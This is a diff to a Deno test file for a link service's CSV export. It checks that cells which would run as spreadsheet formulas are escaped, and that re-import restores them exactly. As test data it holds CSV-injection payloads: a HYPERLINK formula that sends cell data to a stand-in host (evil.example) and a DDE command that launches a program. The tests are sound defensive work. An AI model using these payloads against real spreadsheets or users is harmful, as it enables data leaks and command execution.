@@ -1,6 +1,7 @@
 // Links CSV import (all or nothing, every bad row reported) and export (with counters).
 import assert from "node:assert/strict";
 import { parse } from "csv-parse/sync";
+import { stringify as stringifyCsv } from "csv-stringify/sync";
 import { ManualClock } from "./helpers/clock.ts";
 import { sdkHeaders } from "./helpers/sdk.ts";
 import {
@@ -125,6 +126,8 @@ Deno.test("import: bad rows reject the whole file, each reported by row and fiel
     "11:row",
   ]);
   for (const e of errors) assert.ok(e.message.length > 0);
+  // Twelve problems in ten rows (row 6 has three): the message counts rows.
+  assert.equal(res.body.error.message, "the file has 10 bad rows; nothing was imported");
   assert.equal(await count(), before);
   // The good row was not stored either: all or nothing.
   const none = await call(srv.url, "GET", `/api/v1/projects/${env}/links?q=good-one`, {
@@ -210,4 +213,95 @@ Deno.test("export: every link with state and counters, as CSV an import reads ba
     404,
     "not_found",
   );
+});
+
+/** A cell a spreadsheet would run as a formula (OWASP): = + - @, tab or CR first, not a number. */
+function runsAsFormula(cell: string): boolean {
+  return /^[=+\-@\t\r]/.test(cell) && !/^-?[0-9]+(\.[0-9]+)?$/.test(cell);
+}
+
+Deno.test("export: every text cell is safe in a spreadsheet, and its import gives the links back exactly", async () => {
+  const p = await createProject(srv.url, { name: "Formulas" });
+  const hostile = '=HYPERLINK("https://evil.example/?x="&A2,"Open")';
+  // Through the SDK key an app ships with, as the attack in issue 32 goes.
+  const sdkLink = await call(srv.url, "POST", "/api/v1/sdk/generate_link", {
+    headers: sdkHeaders(p.key, "production"),
+    body: {
+      title: hostile,
+      subtitle: "+1 for you",
+      tags: JSON.stringify(["=cmd|' /C calc'!A0", "-x", "plain"]),
+      data: JSON.stringify({ k: "=v" }),
+      tracking_campaign: "@launch",
+      tracking_source: "\tsource",
+      tracking_medium: "\rmedium",
+    },
+  });
+  assert.equal(sdkLink.status, 200, sdkLink.text);
+  const titles = [
+    "-5% off everything",
+    "=1+1",
+    "'quoted already",
+    "'=escaped by hand",
+    "''-two apostrophes",
+    "-12",
+    "Plain title",
+    "@",
+    "'",
+  ];
+  for (const title of titles) {
+    const res = await call(srv.url, "POST", `/api/v1/projects/${p.productionId}/links`, {
+      headers: adminHeaders,
+      body: { title, subtitle: title, tracking_campaign: title, tags: [title] },
+    });
+    assert.equal(res.status, 201, res.text);
+  }
+
+  const exported = await call(srv.url, "GET", `/api/v1/projects/${p.productionId}/links/export`, {
+    headers: adminHeaders,
+  });
+  assert.equal(exported.status, 200);
+  const records = parse(exported.text) as string[][];
+  assert.equal(records.length, 1 + 1 + titles.length);
+  const unsafe = records.flatMap((r, i) => r.filter(runsAsFormula).map((c) => `row ${i}: ${c}`));
+  assert.deepEqual(unsafe, []);
+  const header = records[0]!;
+  const titleCells = records.slice(1).map((r) => r[header.indexOf("title")]);
+  assert.ok(titleCells.includes(`'${hostile}`));
+  assert.ok(titleCells.includes("'-5% off everything"));
+  // A text starting with an apostrophe keeps it: only the one the export added goes on import.
+  assert.ok(titleCells.includes("'quoted already"));
+  assert.ok(titleCells.includes("''=escaped by hand"));
+  // A plain number is a number in a spreadsheet, not a formula: written as it is.
+  assert.ok(titleCells.includes("-12"));
+
+  // The export imported into the test environment (paths left to be drawn: paths are unique
+  // across the instance): every field comes back as it was.
+  const pathColumn = header.indexOf("path");
+  const reimport = stringifyCsv(
+    records.map((r, i) => r.map((cell, j) => i > 0 && j === pathColumn ? "" : cell)),
+  );
+  const imported = await importCsv(reimport, "text/csv", p.testId);
+  assert.equal(imported.status, 201, imported.text);
+  assert.deepEqual(imported.body, { imported: 1 + titles.length });
+  const fields = (l: Record<string, unknown>) => ({
+    title: l.title,
+    subtitle: l.subtitle,
+    data: l.data,
+    tags: l.tags,
+    tracking_campaign: l.tracking_campaign,
+    tracking_source: l.tracking_source,
+    tracking_medium: l.tracking_medium,
+  });
+  const list = async (id: number) => {
+    const res = await call(srv.url, "GET", `/api/v1/projects/${id}/links?limit=100`, {
+      headers: adminHeaders,
+    });
+    assert.equal(res.status, 200, res.text);
+    return (res.body.links as Record<string, unknown>[]).map(fields)
+      .sort((a, b) => String(a.title).localeCompare(String(b.title)));
+  };
+  const before = await list(p.productionId);
+  assert.deepEqual(await list(p.testId), before);
+  assert.ok(before.some((l) => l.title === hostile && l.tracking_medium === "\rmedium"));
+  assert.ok(before.some((l) => l.title === "'=escaped by hand"));
 });
